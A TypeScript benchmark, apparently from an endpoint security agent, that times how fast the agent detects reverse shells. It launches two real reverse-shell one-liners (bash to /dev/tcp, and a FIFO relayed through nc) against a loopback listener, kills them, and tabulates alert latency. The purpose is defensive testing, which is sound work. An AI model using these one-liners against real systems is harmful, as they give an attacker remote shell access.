/**
 * Reverse-shell detection latency on this host: time from starting a shell to the agent's alert
 * event, for class 1 (bash stdio on a TCP socket) and class 2 (shell relayed through a FIFO and
 * nc), N runs each, with the agent's real detection loop (periodic /proc scan every 2 s plus the
 * exec trigger from the netlink process connector), and again with polling only for comparison.
 * Everything stays on 127.0.0.1; each shell is killed after its run.
 *
 *   node --import tsx bench/revshell-latency.ts [runs]
 */
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Socket } from 'node:net';
import { cpus, loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import { startDetection } from '../src/agent/detect-feature.js';
import type { AlertEventData } from '../src/domain/alerts/alert-types.js';

const runs = Number(process.argv[2] ?? 50);
const home = mkdtempSync(join(tmpdir(), 'vigil-revshell-bench-'));
const seen = new Map<number, number>(); // listener port → alert time

function command(cls: 1 | 2, port: number, dir: string): string {
  return cls === 1
    ? `exec bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/${port} 0>&1`
    : `cd ${dir} && rm -f f && mkfifo f && cat f | bash --norc --noprofile -i 2>&1 | nc 127.0.0.1 ${port} > f`;
}

async function once(cls: 1 | 2): Promise<number> {
  const conns: Socket[] = [];
  const listener = createServer((s) => {
    conns.push(s);
    s.on('error', () => undefined);
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  const port = (listener.address() as { port: number }).port;
  const dir = mkdtempSync(join(home, 'run-'));
  const started = performance.now();
  const child = spawn('bash', ['-c', command(cls, port, dir)], { detached: true, stdio: 'ignore', env: { ...process.env, HOME: home } });
  const deadline = started + 10_000;
  while (!seen.has(port) && performance.now() < deadline) await new Promise((r) => setTimeout(r, 5));
  const at = seen.get(port);
  try {
    process.kill(-(child.pid as number), 'SIGKILL');
  } catch {
    // gone
  }
  for (const c of conns) c.destroy();
  await new Promise((r) => listener.close(r));
  rmSync(dir, { recursive: true, force: true });
  await new Promise((r) => setTimeout(r, 100));
  return at === undefined ? Infinity : at - started;
}

const pct = (xs: number[], p: number): number => xs[Math.min(xs.length - 1, Math.ceil((p / 100) * xs.length) - 1)] as number;
const rows: string[] = [];
for (const execEvents of [true, false]) {
  const detection = startDetection({
    link: { flush: () => undefined },
    queue: {
      push: (kind, data) => {
        const port = (data as AlertEventData).details.peer?.remotePort;
        if (kind === 'alert' && port !== undefined && !seen.has(port)) seen.set(port, performance.now());
        return { seq: 0, kind, time: 0, data };
      },
    },
    log: () => undefined,
    home,
    isPaused: () => false,
    execEvents,
  });
  for (const cls of [1, 2] as const) {
    const times: number[] = [];
    for (let i = 0; i < runs; i++) times.push(await once(cls));
    times.sort((a, b) => a - b);
    const missed = times.filter((t) => t === Infinity).length;
    rows.push(`| ${detection.mode} | ${cls} | ${runs} | ${Math.round(pct(times, 50))} | ${Math.round(pct(times, 95))} | ${Math.round(times[times.length - 1] as number)} | ${missed} |`);
  }
  detection.stop();
}
rmSync(home, { recursive: true, force: true });
console.log(`machine: ${cpus().length} × ${cpus()[0]?.model ?? '?'}, node ${process.version}, ${new Date().toISOString()}, load ${loadavg().map((l) => l.toFixed(1)).join(' ')}`);
console.log('| trigger | class | runs | p50 ms | p95 ms | max ms | missed (10 s) |');
console.log('|---|---|---|---|---|---|---|');
for (const r of rows) console.log(r);
